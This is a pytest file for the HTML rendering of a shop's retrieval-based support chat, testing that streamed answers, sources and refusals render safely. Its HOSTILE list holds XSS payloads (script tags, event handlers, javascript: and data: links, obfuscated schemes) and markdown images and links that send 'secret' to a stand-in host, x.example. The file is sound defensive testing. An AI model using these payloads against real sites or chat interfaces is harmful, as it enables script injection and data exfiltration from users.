"""What the page shows of every event, and that nothing foreign survives in it, at any prefix."""

from __future__ import annotations

import re
import tomllib
from dataclasses import replace
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import pytest
from standin import ANSWER, CITED, CONTACT, NO_ANSWER, PERSON, RETURN_FAQ, RETURN_POLICY, chunk

from rag.errors import Overdue, Starting, TooBusy
from rag.types import Answer, Citation, Done, Facets, HandOver, Kind, Outcome, Passage, Query, Refused, Sources, Token
from ui import markup, present
from ui.turns import Pulse, Stopped, Waiting

QUERY = Query("q", "q", "en")
PASSAGES = (Passage(RETURN_POLICY, 0.9), Passage(RETURN_FAQ, 0.7))
START = present.Reply("en", CONTACT)
HARMLESS = set("div p br strong em ul ol li table thead tbody tr th td hr blockquote a mark span details summary button".split())
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//x.example>",
    "<form action=//x.example><input name=a></form>",
    '<meta http-equiv=refresh content="0;url=//x.example">',
    '<a href="javascript:alert(1)">x</a>',
    '<details open ontoggle="alert(1)">',
    "</div></div><h1>out</h1>",
    "[click](javascript:alert(1))",
    "[click](https://x.example/?q=secret)",
    "![ok](https://x.example/p.png?d=secret)",
    "![ok][r]\n\n[r]: https://x.example/p.png?d=secret",
    "[r]: https://x.example/p.png\n\n![ok][r]",
    "[r]: javascript:alert(1)\n[r]",
    "<https://x.example/?q=secret>",
    "https://x.example/?q=secret",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "$$\\href{javascript:alert(1)}{x}$$",
    "`<img src=x>` ```\n<img src=x>\n```",
    "\n\n\n<img src=x>\n\n    <img src=y>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<!-- <img src=x> -->",
    "\ue000\ue001\ue001\ue000<b>",
    "a \u202e05.99\u202c b",
    'x" onmouseover="alert(1)" y="',
    "a\r\r![x](https://x.example/p.png)\x0b\x0c\x85\u2028\u2029b",
    "{{7*7}} ${7*7} <%= 7*7 %>",
)


class Tags(HTMLParser):
    """Every tag and every link of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.links: list[str] = []
        self.attributes: set[str] = set()
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name in ("href", "src")]


def made(text: str = ANSWER, outcome: Outcome = Outcome.ANSWERED, reason: str = "", **more: object) -> Answer:
    answer = Answer("a1", outcome, text, "generated", "en", QUERY, 7, CITED, PASSAGES, reason)
    return replace(answer, **more)  # type: ignore[arg-type]


def shown(*steps: object) -> str:
    reply = START
    for step in steps:
        reply = present.advance(reply, step)  # type: ignore[arg-type]
    return present.render(reply)


def harmless(html: str) -> None:
    found = Tags(html)
    assert found.tags <= HARMLESS, found.tags - HARMLESS
    assert found.attributes <= {"class", "id", "lang", "href", "type", "title"}, found.attributes
    assert all(link.startswith("#source-a1-") for link in found.links), found.links
    assert len(html.splitlines()) == 1


@pytest.mark.parametrize("payload", HOSTILE)
def test_no_prefix_of_a_hostile_stream_acts(payload: str) -> None:
    text = f"You have 30 days [1]. {payload} and [2] {payload}"
    for end in range(len(text) + 1):
        reply = present.advance(present.advance(START, Sources(QUERY, PASSAGES)), Token(text[:end]))
        harmless(present.render(reply))
    harmless(shown(Done(made(text))))


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_documents_and_questions_do_not_act(payload: str) -> None:
    evil = replace(chunk(payload * 2, payload, payload, payload), facets=Facets(region=payload))
    cited = (Citation(1, evil.document, evil.id, payload, 0, len(payload)),)
    html = shown(Done(made("It is [1].", citations=cited, passages=(Passage(evil, 1.0),))))
    harmless(html)
    harmless(present.question(payload))
    harmless(shown(Refused(made(payload, Outcome.REFUSED))))


@pytest.mark.parametrize(
    "text",
    [
        "It costs 1.299,00 € (incl. 19 % VAT), 3–5 days, size 42⅔ & up.",
        "Charge at 5 V / 2 A; -10 °C < t < 40 °C.",
        "保修期为 2 年，电话 400-000-0000。",
        "Use PB_HL_210 or a*b, 2 * 3 = 6, and #5 [see below].",
    ],
)
def test_clean_answers_are_unchanged(text: str) -> None:
    class Words(HTMLParser):
        seen = ""

        def handle_data(self, data: str) -> None:
            self.seen += data

    words = Words()
    words.feed(markup.answer(text, {}))
    assert words.seen == text


def test_markers_lead_to_the_cards_of_cited_sources_only() -> None:
    html = shown(Done(made("It is 30 days [1], prepaid [2], and never [3].")))
    assert html.count('<a class="marker" href="#source-a1-1">') == 1
    assert '<details class="source" id="source-a1-1">' in html and '<details class="source" id="source-a1-2">' in html
    assert "[3]" in html and "source-a1-3" not in html


def test_a_half_marker_is_held_back_while_streaming_and_leads_nowhere() -> None:
    assert "[" not in shown(Sources(QUERY, PASSAGES), Token("30 days [1"))
    html = shown(Sources(QUERY, PASSAGES), Token("30 days [1] [9]"))
    assert '<span class="marker">1</span>' in html and "<a" not in html and "[9]" in html


def test_bold_is_bold_before_it_is_closed() -> None:
    for end in range(len("You have **3"), len("You have **30 days** left")):
        html = shown(Sources(QUERY, PASSAGES), Token("You have **30 days** left"[:end]))
        assert "<strong>3" in html and "*" not in html, html


def test_without_citations_no_source_is_shown() -> None:
    assert present.sources(made(citations=())) == ""
    assert "source" not in shown(Done(made("Hello!", citations=())))


def test_the_quoted_words_are_marked_in_the_source() -> None:
    html = present.sources(made())
    assert "<strong><mark>within 30 days</mark></strong><mark> of the day it arrived</mark>" in html
    assert "<mark>In the EU we do: the label in your account is prepaid.</mark>" in html


@pytest.mark.parametrize(
    ("text", "quote", "wanted"),
    [
        ("- one\n- two\n- three", "- two", "<li><mark>two</mark></li>"),
        ("# Returns\n\ntext", "# Returns", '<p class="heading"><mark>Returns</mark></p>'),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "| 1 | 2 |", "<td><mark>1</mark></td> <td><mark>2</mark></td>"),
        ("first. second. third.", "second.", "first. <mark>second.</mark> third."),
        ("one two\n\nthree four", "two\n\nthree", "one <mark>two</mark></p> <p><mark>three</mark> four"),
        ("a <b> c", "<b>", "a <mark>&lt;b&gt;</mark> c"),
    ],
)
def test_a_mark_keeps_the_markdown_around_it(text: str, quote: str, wanted: str) -> None:
    start = text.index(quote)
    assert wanted in markup.passage(text, [(start, start + len(quote))], breaks=False)


def test_spans_outside_the_text_and_overlong_texts_are_survived() -> None:
    assert "<mark>" not in markup.passage("short", [(3, 99), (-5, 2), (4, 4)], breaks=False)
    assert len(markup.passage("x" * 100_000, [(50_000, 50_010)], breaks=False)) <= markup.LONGEST + 10


def test_overlapping_quotes_are_one_mark() -> None:
    assert markup.passage("one two three", [(0, 7), (4, 13)], breaks=False) == "<p><mark>one two three</mark></p>"


def test_lines_of_a_table_entry_stay_lines_and_those_of_a_page_flow() -> None:
    entry = replace(RETURN_FAQ, kind=Kind.FAQ, title="Other")
    page = replace(entry, kind=Kind.PAGE)
    for source, breaks in ((entry, True), (page, False)):
        assert ("<br>" in present.sources(made(passages=(PASSAGES[0], Passage(source, 0.7))))) is breaks


def test_a_line_that_repeats_the_title_is_not_shown_twice_unless_it_is_quoted() -> None:
    assert present.sources(made()).count("Who pays for sending it back?") == 1
    question = Citation(2, RETURN_FAQ.document, RETURN_FAQ.id, "Who pays", 0, len("Who pays"))
    assert "<mark>Who pays</mark> for sending it back?" in present.sources(made(citations=(question,)))


def test_facts_tell_when_and_where_a_source_holds() -> None:
    facets = Facets(region="EU", valid_from=date(2025, 3, 1), valid_to=date(2025, 8, 31), trust="community")
    assert present.facts(facets, "en") == ["Valid 1 Mar 2025 to 31 Aug 2025", "Region: EU", "From customers, not from the shop"]
    assert present.facts(Facets(valid_from=date(2025, 3, 1)), "zh") == ["自2025年3月1日起有效"]
    assert present.facts(Facets(valid_to=date(2025, 3, 1)), "en") == ["Valid until 1 Mar 2025"]
    assert present.facts(Facets(), "en") == []


def test_a_source_on_the_web_leads_there_and_its_address_cannot_break_out() -> None:
    linked = replace(RETURN_POLICY, url='https://shop.example/r?a=1&b="><script>')
    html = present.sources(made(passages=(Passage(linked, 0.9), PASSAGES[1])))
    found = Tags(html)
    assert [link for link in found.links if not link.startswith("#")] == [linked.url]
    assert "script" not in found.tags and {"target", "rel"} < found.attributes
    assert 'rel="noopener noreferrer"' in html and "shop.example" not in present.sources(made())


def test_the_last_event_replaces_what_was_streamed() -> None:
    html = shown(Sources(QUERY, PASSAGES), Token("It is 90 days"), Refused(made(NO_ANSWER, Outcome.REFUSED, "no_answer")))
    assert "90" not in html and 'class="reply refused"' in html


def test_a_question_back_is_shown_as_the_shop_speaking_without_sources() -> None:
    html = shown(Sources(QUERY, PASSAGES), Done(made("Which one: EU or UK?", Outcome.CLARIFICATION, citations=())))
    assert 'class="reply answered"' in html and "EU or UK?" in html and "sources" not in html


def test_refused_failed_handed_over_and_busy_look_different() -> None:
    refused = shown(Refused(made(NO_ANSWER, Outcome.REFUSED, "no_answer")))
    handed = shown(HandOver(made(PERSON, Outcome.HANDED_OVER)))
    failed = present.render(present.fail(START, RuntimeError("secret"), "cafe0123"))
    late = present.render(present.fail(START, Overdue(expected="", found="", remedy=""), "cafe0123"))
    busy = present.render(present.fail(START, TooBusy(expected="", found="", remedy="", wait=3), ""))
    cold = present.render(present.fail(START, Starting(expected="", found="", remedy=""), ""))
    assert "No answer in our documents" in refused and "retry" not in refused and "vote-up" in refused
    assert "A person takes over" in handed and 'class="reply handed_over"' in handed
    assert "Something went wrong" in failed and 'class="retry"' in failed and "cafe0123" in failed and "secret" not in failed
    assert "took too long" in late and 'class="reply failed"' in late
    assert 'class="reply busy"' in busy and "Reference" not in busy and "Almost ready" in cold
    for html in (refused, handed, failed):
        assert '<a href="mailto:help@pinebeck.example">' in html and '<a href="tel:+442079460182">' in html


def test_what_a_refusal_shows_in_another_language_has_its_source() -> None:
    text = f"{NO_ANSWER} A document that we have in Chinese only may say it: 保修两年。 [1]"
    html = shown(Sources(QUERY, PASSAGES), Refused(made(text, Outcome.REFUSED, "no_answer", citations=CITED[:1])))
    assert "[1]" in html and 'class="sources"' in html
    assert "sources" not in shown(Refused(made(NO_ANSWER, Outcome.REFUSED, "no_answer", citations=())))


def test_other_refusals_do_not_claim_that_documents_were_searched() -> None:
    assert "I can&#x27;t answer that" in shown(Refused(made("English or Chinese, please.", Outcome.REFUSED, "third_language")))


def test_waiting_is_told_apart_from_searching() -> None:
    assert "Searching our documents" in present.render(START)
    assert "answered first" in shown(Waiting())
    assert "Reading" in shown(Waiting(), Sources(QUERY, PASSAGES), Pulse())


def test_stopping_keeps_what_has_arrived() -> None:
    html = shown(Sources(QUERY, PASSAGES), Token("You have 30"), Stopped())
    assert "You have 30" in html and "Stopped" in html and "vote-up" not in html


def test_a_question_is_shown_as_typed_and_a_long_one_is_cut() -> None:
    assert present.question("a < b & c\n**d** [1]") == '<div class="asked">a &lt; b &amp; c<br>**d** [1]</div>'
    assert len(present.question("x" * 100_000)) < 5_000


def test_both_catalogues_say_the_same_things_with_the_same_holes() -> None:
    said = {}
    for language in present.LANGUAGES:
        words = tomllib.loads((present.WORDING / f"{language}.toml").read_text(encoding="utf-8"))
        said[language] = {key: set(re.findall(r"\$\{?(\w+)", text, re.ASCII)) for key, text in words.items()}
    assert said["en"] == said["zh"]


def test_every_sentence_of_the_catalogue_is_used() -> None:
    code = "".join(path.read_text(encoding="utf-8") for path in Path(present.__file__).parent.glob("*.py"))
    built = {"starting_title", "busy_title"}
    for key in tomllib.loads((present.WORDING / "en.toml").read_text(encoding="utf-8")):
        assert f'"{key}"' in code or key in built, key
